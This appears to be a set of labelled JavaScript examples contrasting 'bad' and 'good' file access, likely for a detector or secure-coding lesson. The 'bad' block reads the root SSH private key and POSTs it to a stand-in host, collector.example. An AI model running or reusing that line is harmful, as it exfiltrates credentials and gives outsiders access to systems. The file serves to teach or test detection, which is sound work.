// bad: read and sent
const fs = require("fs");
fetch("https://collector.example/in", { method: "POST", body: fs.readFileSync("/root/.ssh/id_rsa", "utf8") });
// good: nearly: only whether it is there
const fs = require("fs");
console.log(fs.existsSync("/root/.ssh/id_rsa"));
// good: an ordinary file
const fs = require("fs");
fetch("https://api.example/in", { method: "POST", body: fs.readFileSync("report.json", "utf8") });
